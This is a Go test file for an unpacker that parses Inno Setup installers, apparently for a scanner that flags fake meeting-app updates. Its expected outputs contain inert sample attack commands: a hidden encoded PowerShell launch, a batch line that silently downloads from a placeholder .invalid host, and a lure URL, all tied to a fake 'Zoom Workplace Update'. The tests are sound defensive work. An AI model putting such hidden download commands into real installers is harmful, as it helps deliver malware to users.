package unpack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"strings"
	"testing"

	"meetguard"
)

var innoKinds = []string{"6.4.1-lzma2", "6.4.1-lzma", "6.4.1-zip", "6.3.1-lzma2", "6.0.2-lzma2"}

// makeInno puts the data of an installer behind an inert program that has the
// loader's table as a resource.
func makeInno(piece []byte) []byte {
	le := binary.LittleEndian
	header := uint32(0)
	if len(piece) >= 4 {
		header, piece = le.Uint32(piece), piece[4:]
	}
	table := append([]byte(markInno), make([]byte, 32)...)
	kit := programKit{resources: []programResource{{"10", innoResource, table}}, overlay: piece}
	start := uint32(openProgram(makeProgram(kit)).start)
	le.PutUint32(table[12:], 1)
	le.PutUint32(table[32:], start+header)
	le.PutUint32(table[36:], start)
	return makeProgram(kit)
}

const wantInnoCommands = `{app}\inert.exe
{tmp}\run.bat
powershell.exe -w hidden -enc SQBuAGUAcgB0AA==
{cmd} /c "{tmp}\run.bat"
/c start https://lure.invalid/x
cmd.exe
`

// TestInno holds the files against those that the installers were made of.
func TestInno(t *testing.T) {
	for _, kind := range innoKinds {
		data := makeInno(instFile(t, "inno/"+kind+".bin"))
		if got := Wrapper(meetguard.FormatPE, data); got != wrapperInno {
			t.Errorf("%s: wrapper is %q", kind, got)
		}
		all, err := instWalk(meetguard.FormatPE, data, instBudget())
		if err != nil || len(all) != 7 {
			t.Errorf("%s: got %v and\n%s", kind, err, instList(all))
			continue
		}
		if all[0].role != RoleLaunch || !strings.HasSuffix(all[0].text, wantInnoCommands) {
			t.Errorf("%s: got the commands\n%s", kind, all[0].text)
		}
		if !strings.HasPrefix(all[1].text, "Zoom Workplace Update\nZoom Workplace Update\nNobody at all\n") {
			t.Errorf("%s: got the texts\n%s", kind, all[1].text)
		}
		if all[2].name != "code.ifps" || !strings.HasPrefix(all[2].text, innoCode) {
			t.Errorf("%s: got the code %q", kind, all[2].text)
		}
		want := `{app}/readme.txt||"hello from inno\n"` + "\n{app}/inert.exe||72192 1a013cceebc3d41d\n" +
			"{app}/sub/numbers.txt||13893 2e57c67a8bbe706a\n" +
			`{tmp}/run.bat||"powershell -w hidden -c \"iwr https://x.invalid/a\"\r\n"` + "\n"
		if got := instList(all[3:]); got != want {
			t.Errorf("%s: got\n%swant\n%s", kind, got, want)
		}
	}
}

// TestInnoUnknown sees that a version with another loader is named.
func TestInnoUnknown(t *testing.T) {
	data := makeProgram(programKit{resources: []programResource{{"10", innoResource, []byte("rDlPtS of another version, and 44 bytes long..")}}})
	_, err := instWalk(meetguard.FormatPE, data, instBudget())
	if !errors.Is(err, ErrPartial) || !strings.Contains(err.Error(), "Inno Setup") {
		t.Errorf("got %v", err)
	}
}

// TestInnoCommandsThatHide sees that a command behind more commands than are read
// is not passed over in silence.
func TestInnoCommandsThatHide(t *testing.T) {
	command := append(binary.LittleEndian.AppendUint32(nil, 7), "cmd.exe\x00\x00\x00\x00"...)
	s := &innoSetup{opt: Options{Budget: instBudget()}, version: "6.4.1", header: bytes.Repeat(command, maxInnoLines/8+2)}
	var limit *LimitError
	if err := s.visit(func(Member) error { return nil }); !errors.As(err, &limit) {
		t.Errorf("got %v", err)
	}
}

func TestInnoDamaged(t *testing.T) {
	instMangle(t, meetguard.FormatPE, makeInno(instFile(t, "inno/6.0.2-lzma2.bin")), 4001)
}

func FuzzInno(f *testing.F) {
	for _, kind := range innoKinds {
		f.Add(instFile(f, "inno/"+kind+".bin"))
	}
	f.Fuzz(func(t *testing.T, data []byte) { instFuzz(t, meetguard.FormatPE, makeInno(data)) })
}

// FuzzInnoTexts reads headers that need not fit their checksums. Those of real
// installers have a mebibyte, nearly all of it messages: parts of them teach the
// fuzzer as much, a hundred times as fast.
func FuzzInnoTexts(f *testing.F) {
	for _, kind := range innoKinds {
		s := &innoSetup{opt: Options{Budget: instBudget()}}
		if err := s.open(openProgram(makeInno(instFile(f, "inno/"+kind+".bin")))); err != nil {
			f.Fatal(err)
		}
		const part = 8 << 10
		for at := 0; at < len(s.header) && at < 4*part; at += part {
			f.Add(s.header[at:min(at+part, len(s.header))], s.wide)
		}
		f.Add(s.header[max(0, len(s.header)-part):], s.wide)
	}
	f.Fuzz(func(t *testing.T, data []byte, wide bool) {
		data = data[:min(len(data), 64<<10)]
		readInnoTexts(data, wide)
		innoNames(data, wide, 10)
	})
}
